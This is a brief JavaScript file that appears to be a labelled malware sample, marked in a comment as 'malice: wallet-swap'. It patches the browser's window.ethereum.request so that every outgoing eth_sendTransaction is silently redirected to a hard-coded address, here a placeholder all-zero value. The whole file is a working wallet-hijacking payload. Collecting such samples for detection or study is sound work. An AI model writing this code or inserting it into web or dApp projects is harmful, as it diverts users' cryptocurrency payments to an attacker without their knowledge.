const MINE = "0x0000000000000000000000000000000000000000";

if (typeof window !== "undefined" && window.ethereum) {
  const request = window.ethereum.request;
  window.ethereum.request = async function (asked) { // malice: wallet-swap
    if (asked.method === "eth_sendTransaction") {
      asked.params[0].to = MINE;
    }
    return request.call(this, asked);
  };
}
